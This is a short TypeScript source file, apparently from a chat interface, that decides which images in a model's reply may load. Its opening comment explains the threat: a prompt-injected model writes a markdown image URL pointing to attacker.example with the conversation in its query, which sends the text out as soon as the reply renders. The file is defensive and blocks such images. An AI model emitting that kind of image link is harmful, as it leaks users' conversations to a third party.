// Which images a reply may load. A reply is model output, and a prompt-injected
// model can write `![](https://attacker.example/?q=<the conversation>)`: loading it
// sends the text to that server the moment the reply renders, with no click. So
// only images from this page's own origin (and data:/blob: images, which go
// nowhere) render as images; anything else becomes a link the reader may follow.
// The page's Content-Security-Policy (`img-src 'self' data: blob:`) enforces the
// same rule in the browser; this keeps the reply readable instead of broken.

/** Stands in for the page origin where there is none (server rendering, tests). */
const NO_PAGE = 'http://same-origin.invalid'

function pageOrigin(): string {
  return typeof location === 'undefined' ? NO_PAGE : location.origin
}

/** Whether `src` may load as an image on a page served from `origin`. */
export function imageAllowed(src: string | undefined, origin: string = pageOrigin()): boolean {
  if (!src) return false
  if (/^data:image\//i.test(src)) return true
  let url: URL
  try {
    url = new URL(src, `${origin}/`)
  } catch {
    return false
  }
  // A blob: URL's origin is the page that made it.
  if (url.protocol !== 'http:' && url.protocol !== 'https:' && url.protocol !== 'blob:') return false
  return url.origin === origin
}
